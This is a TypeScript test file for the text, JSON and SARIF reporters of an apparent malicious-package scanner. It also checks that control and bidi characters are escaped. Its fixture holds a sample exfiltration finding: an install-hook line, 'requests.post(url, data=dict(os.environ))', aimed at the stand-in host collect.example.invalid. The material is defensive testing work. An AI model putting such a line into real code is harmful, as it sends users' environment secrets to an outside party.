import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ScanResult } from '../../src/core/types.js';
import { renderJson } from '../../src/report/json.js';
import { renderSarif } from '../../src/report/sarif.js';
import { renderText } from '../../src/report/text.js';
import { escapeEvidence } from '../../src/report/escape.js';

const result: ScanResult = {
  target: 'pypi:time-helper==1.0',
  ecosystem: 'pypi',
  name: 'time-helper',
  version: '1.0',
  verdict: 'malicious',
  score: 140,
  reason: 'Install hook sends environment variables to an unknown host (setup.py:7, runs on install).',
  artifacts: [{ filename: 'time-helper-1.0.tar.gz', sha256: 'a'.repeat(64), size: 1234 }],
  findings: [
    {
      ruleId: 'py/install-exfiltration',
      severity: 'critical',
      kind: 'threat',
      category: 'exfiltration',
      confidence: 'high',
      message: 'Install hook sends environment variables to an unknown host',
      location: { path: 'time-helper-1.0/setup.py', line: 7, artifact: 'time-helper-1.0.tar.gz' },
      evidence: "requests.post(url, data=dict(os.environ))\u202e\u0007",
      trigger: 'install',
      decoded: 'https://collect.example.invalid/',
    },
    {
      ruleId: 'py/network-capability',
      severity: 'low',
      kind: 'capability',
      category: 'network',
      confidence: 'medium',
      message: 'Uses the network',
      location: { path: 'time-helper-1.0/time_helper/__init__.py', line: 2 },
      evidence: 'import requests',
      trigger: 'import',
    },
  ],
  errors: [],
};

test('evidence is escaped: control and bidi characters become visible', () => {
  assert.equal(escapeEvidence('a\u202eb\u0007c\td\ne'), 'a\\u202eb\\x07c\td\\ne');
  assert.equal(escapeEvidence('x'.repeat(500)).length, 240);
});

test('text report: grouped per package with file:line evidence, no colour when asked', () => {
  const text = renderText([result], { color: false });
  assert.match(text, /pypi:time-helper@1\.0 {2}MALICIOUS {2}score 140/);
  assert.match(text, /critical +py\/install-exfiltration +\[install\] +time-helper-1\.0\/setup\.py:7/);
  assert.match(text, /decoded: https:\/\/collect\.example\.invalid\//);
  assert.ok(!text.includes('\u202e'), 'bidi override must be escaped');
  assert.ok(!text.includes('\u001b['), 'no colour codes');
  assert.match(text, /1 target: 1 malicious, 0 suspicious, 0 clean/);
  assert.match(renderText([result], { color: true }), /\u001b\[31m/);
});

test('json report follows the documented contract', () => {
  const doc = JSON.parse(renderJson([result], { version: '9.9.9' })) as { results: Record<string, unknown>[] };
  const r = doc.results[0]!;
  for (const key of ['target', 'ecosystem', 'name', 'version', 'verdict', 'score', 'artifacts', 'findings', 'errors']) assert.ok(key in r, key);
  assert.equal(r.target, 'pypi:time-helper==1.0');
  const f = (r.findings as Record<string, unknown>[])[0]!;
  assert.deepEqual(Object.keys(f).filter((k) => ['ruleId', 'severity', 'message', 'location', 'evidence'].includes(k)).sort(), [
    'evidence',
    'location',
    'message',
    'ruleId',
    'severity',
  ]);
  assert.deepEqual(f.location, { path: 'time-helper-1.0/setup.py', line: 7, artifact: 'time-helper-1.0.tar.gz' });
});

test('sarif 2.1.0: rules in the driver, relative locations, stable fingerprints', () => {
  const a = JSON.parse(renderSarif([result], [], { version: '1.0.0' })) as {
    version: string;
    runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; ruleIndex: number; partialFingerprints: Record<string, string>; locations: { physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } } }[] }[] }[];
  };
  assert.equal(a.version, '2.1.0');
  const run = a.runs[0]!;
  assert.deepEqual(run.tool.driver.rules.map((r) => r.id), ['py/install-exfiltration', 'py/network-capability']);
  const first = run.results[0]!;
  assert.equal(first.ruleIndex, 0);
  assert.equal(first.locations[0]!.physicalLocation.artifactLocation.uri, 'time-helper-1.0/setup.py');
  assert.equal(first.locations[0]!.physicalLocation.region?.startLine, 7);
  // Moving the finding to another line keeps the fingerprint.
  const moved: ScanResult = { ...result, findings: result.findings.map((f) => ({ ...f, location: { ...f.location, line: f.location.line + 10 } })) };
  const b = JSON.parse(renderSarif([moved], [], { version: '1.0.0' })) as typeof a;
  assert.deepEqual(b.runs[0]!.results[0]!.partialFingerprints, first.partialFingerprints);
});
